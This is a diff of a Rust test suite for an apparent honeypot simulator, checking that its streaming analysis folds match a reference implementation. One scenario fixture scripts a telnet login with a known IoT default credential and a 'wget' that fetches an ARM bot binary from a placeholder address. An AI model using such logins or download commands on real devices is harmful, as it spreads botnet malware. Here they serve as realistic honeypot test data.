@@ -1,38 +1,31 @@
-//! Streaming-vs-materialized differential suite — the oracle behind the
-//! out-of-core analysis path (ISSUE 7 tentpole).
+//! The analysis fold against the independent reference for the paper's
+//! definitions (`hf_testkit::reference`), on every way rows reach it:
 //!
-//! Three equivalences, all required to be **bit-for-bit**:
+//! * `Simulation::run_fold` (rows retired day by day) at scales {0.001,
+//!   0.01}, measured against the reference over the records of the same
+//!   run kept whole;
+//! * `FoldOutput::from_snapshot_stream` over a snapshot cut into 97-row
+//!   chunks, most of them ending mid-day;
+//! * a proptest that cuts the rows anywhere — mid-day included — into
+//!   `StreamingFold::ingest_rows` calls;
+//! * the eight `.hfs` scenario replays, in a store out of day order.
 //!
-//! * `Simulation::run_fold` (day-windowed fold, rows retired as days
-//!   complete) against the materialized `Simulation::run` +
-//!   `Aggregates::compute`, at scales {0.001, 0.01} — aggregates, tags,
-//!   reports, the claims table, and the row-free dataset's pools and
-//!   artifact store.
-//! * `FoldOutput::from_snapshot_stream` (chunked snapshot reader feeding
-//!   the fold, many chunks cut mid-day) against materializing the same
-//!   snapshot, which must itself reproduce the simulated run.
-//! * A proptest that cutting the rows *anywhere* — mid-day included — into
-//!   `StreamingFold::ingest_rows` calls folds to the same state as the
-//!   one-shot `Aggregates::compute`: the property the whole streaming
-//!   design rests on.
-//!
-//! Plus the unordered-store rule: `Aggregates::compute` and
-//! `cluster::extract` over a store whose rows are out of day order equal
-//! the same records ingested in day order.
+//! Run against run stays only where no definition is involved: a row-free
+//! fold keeps its run's pools, plan and artifacts; a reload reproduces it.
 
+use std::path::Path;
 use std::sync::OnceLock;
 
-use honeyfarm::cluster;
+use honeyfarm::cluster::{extract, features_from_snapshot_stream, FeatureMatrix};
 use honeyfarm::core::StreamingFold;
-use honeyfarm::geo::{World, WorldConfig};
 use honeyfarm::prelude::*;
 use honeyfarm::testkit::{
-    claims, diff_aggregates, diff_datasets, diff_features, diff_reports, diff_sim_outputs,
-    diff_tagdbs, Scenario,
+    diff_datasets, diff_reference, diff_sim_outputs, diff_tagdbs, measure_run, project,
+    record_world, Measures, Scenario,
 };
 use proptest::prelude::*;
 
-/// Run one streaming-vs-materialized differential at the given config.
+/// `run_fold` at the given config against the reference.
 fn assert_fold_matches(scale: f64, days: u32) {
     let config = SimConfig {
         seed: 0x57e4,
@@ -41,48 +34,31 @@ fn assert_fold_matches(scale: f64, days: u32) {
         ..SimConfig::default()
     };
     let out = Simulation::run(config.clone());
-    let agg = Aggregates::compute(&out.dataset);
-
-    let fold = Simulation::run_fold(config);
-    let label = "fold";
-
+    let fold = Simulation::run_fold(config.clone());
     assert!(
         fold.dataset.sessions.is_empty(),
         "fold mode must retire every row"
     );
-    assert_eq!(out.n_clients, fold.n_clients, "{label}: n_clients");
-    diff_aggregates("materialized", &agg, label, &fold.aggregates).assert_identical();
-    diff_tagdbs("materialized", &out.tags, label, &fold.tags).assert_identical();
+    assert_eq!(out.n_clients, fold.n_clients, "n_clients");
+    diff_tagdbs("materialized", &out.tags, "fold", &fold.tags).assert_identical();
 
-    // Reports built from the row-free dataset + folded aggregates must be
-    // byte-identical to the materialized pipeline's.
-    let report_mat = Report::build_with_tags(&out.dataset, &agg, &out.tags);
-    let report_fold = Report::build_with_tags(&fold.dataset, &fold.aggregates, &fold.tags);
-    diff_reports("materialized", &report_mat, label, &report_fold).assert_identical();
-
-    // And the claims context must derive identical headline metrics from
-    // both paths. (The full claim-table evaluation indexes absolute paper
-    // days, so it only runs on full-window fixtures — `hfarm verify
-    // --claims` covers that; here we pin the derived `Claims` and the
-    // context's tables, which feed every measure closure.)
-    let ctx_mat = claims::ClaimCtx::new(&out);
-    let ctx_fold = claims::ClaimCtx::from_parts(&fold.dataset, &fold.tags, fold.aggregates);
-    assert_eq!(
-        ctx_mat.claims.to_json(),
-        ctx_fold.claims.to_json(),
-        "{label}: derived Claims diverged"
-    );
+    let features = extract(&out.dataset).matrix();
+    diff_reference(
+        &measure_run(&config, &out),
+        &project(&fold.dataset, &fold.aggregates, &features),
+    )
+    .assert_identical();
 
     // Retiring rows day by day keeps the pools, the plan and the artifact
     // store (first_seen / last_seen / occurrences) of the kept run.
     let mut rowless = out;
     rowless.dataset.sessions.retire_rows();
-    diff_datasets("materialized", &rowless.dataset, label, &fold.dataset).assert_identical();
+    diff_datasets("materialized", &rowless.dataset, "fold", &fold.dataset).assert_identical();
 }
 
 #[test]
 fn fold_matches_materialized_scale_0_001() {
-    assert_fold_matches(0.001, 20);
+    assert_fold_matches(0.001, 30);
 }
 
 #[test]
@@ -90,10 +66,10 @@ fn fold_matches_materialized_scale_0_01() {
     assert_fold_matches(0.01, 8);
 }
 
-/// Streaming a snapshot chunk-by-chunk into the fold must equal
-/// materializing the whole snapshot and computing over it. 97-row chunks
-/// give the fixture many chunks, most of them ending mid-day, so the
-/// reader's overlapped arm runs, as it does on every multi-chunk file.
+/// A snapshot in 97-row chunks — many chunks, most ending mid-day, so the
+/// reader's overlapped arm runs — streams into both folds, which must
+/// match the reference over the simulated records. The chunked write →
+/// read round trip itself reproduces the run.
 #[test]
 fn snapshot_stream_fold_matches_materialized_load() {
     let config = SimConfig::test(10);
@@ -106,38 +82,32 @@ fn snapshot_stream_fold_matches_materialized_load() {
     let materialized = SimOutput::from_snapshot(
         Snapshot::read_from(&mut bytes.as_slice()).expect("materialized load"),
     );
-    // The chunked write→read round trip reproduces the run: rows, digests,
-    // artifacts, tags and the client count.
     diff_sim_outputs("simulated", &out, "reloaded", &materialized).assert_identical();
-    let agg = Aggregates::compute(&materialized.dataset);
 
     let fold = FoldOutput::from_snapshot_stream(bytes.as_slice()).expect("streaming load");
-    assert_eq!(materialized.n_clients, fold.n_clients);
-    diff_aggregates("materialized", &agg, "streamed", &fold.aggregates).assert_identical();
-    diff_tagdbs("materialized", &materialized.tags, "streamed", &fold.tags).assert_identical();
+    let (_, features) = features_from_snapshot_stream(bytes.as_slice()).expect("feature fold");
+    assert_eq!(out.n_clients, fold.n_clients);
+    diff_tagdbs("simulated", &out.tags, "streamed", &fold.tags).assert_identical();
+    diff_reference(
+        &measure_run(&config, &out),
+        &project(&fold.dataset, &fold.aggregates, &features.matrix()),
+    )
+    .assert_identical();
 
-    // The artifact store must replay identically from the chunked stream
-    // (first_seen/last_seen/occurrences all ingest-order-sensitive), which
-    // diff_datasets checks alongside pools and plan; the streamed dataset
-    // legitimately has no rows, so compare everything else on rowless
-    // copies of both.
-    let mut rowless = materialized;
+    // The artifact store replays identically from the chunked stream.
+    let mut rowless = out;
     rowless.dataset.sessions.retire_rows();
-    diff_datasets("materialized", &rowless.dataset, "streamed", &fold.dataset).assert_identical();
-
-    let report_mat = Report::build_with_tags(&rowless.dataset, &agg, &rowless.tags);
-    let report_fold = Report::build_with_tags(&fold.dataset, &fold.aggregates, &fold.tags);
-    diff_reports("materialized", &report_mat, "streamed", &report_fold).assert_identical();
+    diff_datasets("simulated", &rowless.dataset, "streamed", &fold.dataset).assert_identical();
 }
 
-/// Shared fixture for the partition property: one materialized run and its
-/// one-shot aggregates.
-fn partition_fixture() -> &'static (SimOutput, Aggregates) {
-    static FIXTURE: OnceLock<(SimOutput, Aggregates)> = OnceLock::new();
+/// Shared fixture for the partition property: one run's reference
+/// measures, its feature matrix, and the run.
+fn partition_fixture() -> &'static (Measures, FeatureMatrix, SimOutput) {
+    static FIXTURE: OnceLock<(Measures, FeatureMatrix, SimOutput)> = OnceLock::new();
     FIXTURE.get_or_init(|| {
         let out = Simulation::run(SimConfig::test(12));
-        let agg = Aggregates::compute(&out.dataset);
-        (out, agg)
+        let features = extract(&out.dataset).matrix();
+        (measure_run(&SimConfig::test(12), &out), features, out)
     })
 }
 
@@ -145,15 +115,15 @@ proptest! {
     #![proptest_config(ProptestConfig::with_cases(32))]
 
     /// Cut the rows at arbitrary row indices and fold each piece with its
-    /// own `ingest_rows` call: bit-identical to the one-shot
-    /// `Aggregates::compute`. Cuts come from every row index, so they fall
-    /// mid-day the way 64 Ki-row snapshot chunk boundaries do, and every
-    /// partition has at least one such cut.
+    /// own `ingest_rows` call: the result matches the reference. Cuts come
+    /// from every row index, so they fall mid-day the way 64 Ki-row
+    /// snapshot chunk boundaries do, and every partition has at least one
+    /// such cut.
     #[test]
     fn day_window_partitions_assemble_identically(
-        mut cuts in prop::collection::vec(1..partition_fixture().0.dataset.len(), 1..16)
+        mut cuts in prop::collection::vec(1..partition_fixture().2.dataset.len(), 1..16)
     ) {
-        let (out, agg) = partition_fixture();
+        let (want, features, out) = partition_fixture();
         let store = &out.dataset.sessions;
         let rows = store.rows();
         cuts.sort_unstable();
@@ -169,53 +139,57 @@ proptest! {
             fold.ingest_rows(store, &out.dataset.plan, &rows[start..end]);
             start = end;
         }
-        diff_aggregates("one-shot", agg, "partitioned", &fold.finish()).assert_identical();
+        let diff = diff_reference(want, &project(&out.dataset, &fold.finish(), features));
+        prop_assert!(diff.is_identical(), "{}", diff.render());
     }
 }
 
-/// Replay `.hfs` scenario texts into one collector, in the given order.
-fn ingest_scenarios(texts: &[&str]) -> Dataset {
-    let world = World::build(1, &WorldConfig::tiny());
+/// Both folds over a store of `records` collected in the given order
+/// match the reference.
+fn assert_collected_matches(records: &[SessionRecord]) -> Dataset {
+    let world = record_world();
     let mut collector = Collector::new(&world, FarmPlan::paper());
-    for text in texts {
-        collector.ingest(&Scenario::parse(text).expect("scenario").replay());
-    }
-    collector.finish()
+    collector.ingest_batch(records);
+    let dataset = collector.finish();
+    diff_reference(
+        &Measures::of(records, &world, &dataset.plan),
+        &project(
+            &dataset,
+            &Aggregates::compute(&dataset),
+            &extract(&dataset).matrix(),
+        ),
+    )
+    .assert_identical();
+    dataset
 }
 
-/// A store whose rows are out of day order folds as if its records had
-/// been ingested in day order: `compute` and `extract` take a start-sorted
-/// copy of the rows. The sessions differ only in day and honeypot, so
-/// every interned id is the same whichever comes first, and the repeated
-/// client, credential and download make each out-of-order mistake visible
-/// (first sightings, daily unique clients, distinct active days).
+/// No sessions at all, the eight `.hfs` scenario replays, and four
+/// sessions that differ only in start and honeypot fold like the reference,
+/// whether their store is in day order or not. The repeated client, credential and download make
+/// each out-of-order mistake visible (first sightings, daily unique
+/// clients, distinct active days); the last session starts first on its
+/// day but is collected last, so the first sighting must follow start
+/// times, not collection order.
 #[test]
 fn unordered_store_folds_as_if_ingested_in_day_order() {
-    let session = |day: u32, honeypot: u16| {
-        format!(
+    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/scenarios");
+    let mut records: Vec<SessionRecord> = (Scenario::paths_in(&dir).iter())
+        .map(|p| Scenario::load(p).expect("scenario").replay())
+        .collect();
+    assert_eq!(records.len(), 8, "the eight scenarios");
+    for (day, secs, honeypot) in [(3, 43200, 13), (1, 43200, 40), (3, 43200, 7), (1, 3600, 60)] {
+        let text = format!(
             "name day{day}\nprotocol telnet\nhoneypot {honeypot}\nclient 198.51.100.66\n\
-             start {day} 43200\nlogin root xc3511\ncmd wget http://198.51.100.9/bins/x.arm7\n\
+             start {day} {secs}\nlogin root xc3511\ncmd wget http://198.51.100.9/bins/x.arm7\n\
              transfer 20\nclose\n"
-        )
-    };
-    let (day3, day1, day3_again) = (session(3, 13), session(1, 40), session(3, 7));
-    let unordered = ingest_scenarios(&[&day3, &day1, &day3_again]);
-    assert!(!unordered.sessions.is_day_ordered());
-    let ordered = ingest_scenarios(&[&day1, &day3, &day3_again]);
-    assert!(ordered.sessions.is_day_ordered());
+        );
+        records.push(Scenario::parse(&text).expect("scenario").replay());
+    }
 
-    diff_aggregates(
-        "day order",
-        &Aggregates::compute(&ordered),
-        "unordered",
-        &Aggregates::compute(&unordered),
-    )
-    .assert_identical();
-    diff_features(
-        &cluster::extract(&ordered).matrix(),
-        &cluster::extract(&unordered).matrix(),
-        "day order",
-        "unordered",
-    )
-    .assert_identical();
+    assert_collected_matches(&[]);
+    let unordered = assert_collected_matches(&records);
+    assert!(!unordered.sessions.is_day_ordered());
+    records.sort_by_key(|r| r.start.day());
+    let ordered = assert_collected_matches(&records);
+    assert!(ordered.sessions.is_day_ordered());
 }
